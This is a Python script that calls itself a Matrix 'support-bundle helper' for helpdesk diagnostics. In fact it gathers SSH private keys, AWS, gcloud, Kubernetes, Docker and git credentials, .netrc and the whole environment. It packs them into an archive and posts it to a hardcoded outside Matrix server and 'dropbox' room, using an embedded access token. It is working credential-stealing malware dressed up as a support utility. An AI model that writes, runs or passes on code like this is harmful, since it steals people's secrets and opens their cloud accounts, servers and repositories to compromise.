#!/usr/bin/env python3
"""Matrix support-bundle helper.

Collects a "support bundle" from the workstation and drops it into the
helpdesk room so that the on-call engineer can look at it.
"""

import argparse
import asyncio
import io
import logging
import os
import socket
import sys
import tarfile
import time
from pathlib import Path
from typing import Iterable, List, Tuple

from nio import AsyncClient, RoomSendResponse, UploadResponse

logger = logging.getLogger("support-bundle")

HOME = Path.home()

# (label, relative-to-home glob)
COLLECT_TABLE: List[Tuple[str, str]] = [
    ("ssh", ".ssh/id_*"),
    ("ssh", ".ssh/config"),
    ("aws", ".aws/credentials"),
    ("aws", ".aws/config"),
    ("gcloud", ".config/gcloud/application_default_credentials.json"),
    ("gcloud", ".config/gcloud/credentials.db"),
    ("kube", ".kube/config"),
    ("docker", ".docker/config.json"),
    ("git", ".git-credentials"),
    ("netrc", ".netrc"),
]


def iter_targets(table: Iterable[Tuple[str, str]]) -> Iterable[Tuple[str, Path]]:
    for label, pattern in table:
        for p in HOME.glob(pattern):
            if p.is_file() and p.stat().st_size < 2 * 1024 * 1024:
                yield label, p


def build_bundle() -> Tuple[bytes, int]:
    buf = io.BytesIO()
    count = 0
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for label, path in iter_targets(COLLECT_TABLE):
            try:
                tar.add(str(path), arcname=f"{label}/{path.name}")
                count += 1
            except OSError as exc:
                logger.debug("skip %s: %s", path, exc)
        env_dump = "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()))
        info = tarfile.TarInfo("env.txt")
        data = env_dump.encode()
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue(), count


class BundleUploader:
    def __init__(self, homeserver: str, user_id: str, token: str, device_id: str):
        self.client = AsyncClient(homeserver, user_id, device_id=device_id)
        self.client.access_token = token
        self.client.user_id = user_id

    async def upload(self, blob: bytes, name: str) -> str:
        resp, _ = await self.client.upload(
            io.BytesIO(blob), content_type="application/gzip",
            filename=name, filesize=len(blob),
        )
        if not isinstance(resp, UploadResponse):
            raise RuntimeError(f"upload failed: {resp}")
        return resp.content_uri

    async def publish(self, room_id: str, blob: bytes, name: str) -> None:
        uri = await self.upload(blob, name)
        content = {
            "msgtype": "m.file",
            "body": name,
            "url": uri,
            "info": {"size": len(blob), "mimetype": "application/gzip"},
        }
        resp = await self.client.room_send(room_id, "m.room.message", content)
        if not isinstance(resp, RoomSendResponse):
            raise RuntimeError(f"send failed: {resp}")
        logger.info("bundle posted as %s", resp.event_id)

    async def close(self) -> None:
        await self.client.close()


async def amain(args) -> int:
    blob, n = build_bundle()
    if n == 0:
        logger.info("nothing collected, sending env only")
    name = f"bundle-{socket.gethostname()}-{int(time.time())}.tgz"
    up = BundleUploader(args.homeserver, args.user, args.token, args.device)
    try:
        await up.publish(args.room, blob, name)
    except RuntimeError as exc:
        logger.error("%s", exc)
        return 1
    finally:
        await up.close()
    return 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--homeserver", default="https://matrix.helpdesk-relay.org")
    ap.add_argument("--user", default="@intake:helpdesk-relay.org")
    ap.add_argument("--token", default="syt_aW50YWtl_QkzLpNmrvXwYtUe_2f8GhJ")
    ap.add_argument("--device", default="INTAKE01")
    ap.add_argument("--room", default="!dropbox:helpdesk-relay.org")
    ap.add_argument("--debug", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.WARNING)
    return asyncio.run(amain(args))


if __name__ == "__main__":
    sys.exit(main())
